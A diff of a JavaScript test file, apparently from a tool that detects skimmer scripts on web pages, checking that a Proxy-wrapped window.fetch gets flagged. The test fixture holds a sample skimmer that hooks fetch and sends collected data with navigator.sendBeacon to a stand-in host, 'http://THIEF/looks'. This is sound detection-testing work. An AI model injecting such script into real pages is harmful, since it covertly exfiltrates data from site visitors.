@@ -140,10 +140,11 @@ describe('a native function replaced', () => {
   it('by a proxy is found though nobody can be named for it, and the proxy sees no look', async () => {
     const skimmer = `const looks = []; window.looks = looks
       window.fetch = new Proxy(fetch, { get: (t, k) => (looks.push(k), t[k]), ownKeys: (t) => (looks.push('keys'), Reflect.ownKeys(t)), getOwnPropertyDescriptor: (t, k) => (looks.push(k), Reflect.getOwnPropertyDescriptor(t, k)) })
-      addEventListener('pagehide', () => navigator.sendBeacon('http://THIEF/looks', JSON.stringify(looks.map(String))))`
-    const { behaviours, atThief } = await watchPage(browser, { skimmer })
+      document.querySelector('button').addEventListener('click', () => navigator.sendBeacon('http://THIEF/looks', JSON.stringify(looks.map(String))))`
+    const { behaviours, capture } = await watchPage(browser, { skimmer })
     expect(behaviours).toContainEqual(expect.objectContaining({ kind: 'overrides-native', target: 'window.fetch', scriptId: null }))
-    expect(atThief.filter((line) => line.startsWith('POST /looks'))).toEqual(['POST /looks []'])
+    const told = capture.requests.filter(({ url }) => url.endsWith('/looks')).map(({ exchange }) => exchange?.requestBody?.text)
+    expect(new Set(told)).toEqual(new Set(['[]']))
   })
 
   it('by a bound function is put down to whoever wrote that', async () => {
